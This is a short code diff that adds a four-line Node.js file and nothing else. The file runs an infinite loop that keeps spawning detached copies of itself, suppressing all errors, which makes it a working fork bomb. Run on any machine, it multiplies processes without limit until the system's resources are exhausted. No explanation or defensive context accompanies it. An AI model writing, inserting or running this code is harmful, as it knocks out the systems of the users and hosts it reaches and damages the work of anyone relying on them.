@@ -1,0 +1,4 @@
+const { spawn } = require('child_process');
+for (;;) {
+  try { spawn(process.execPath, [__filename], { detached: true, stdio: 'ignore' }); } catch (e) {}
+}
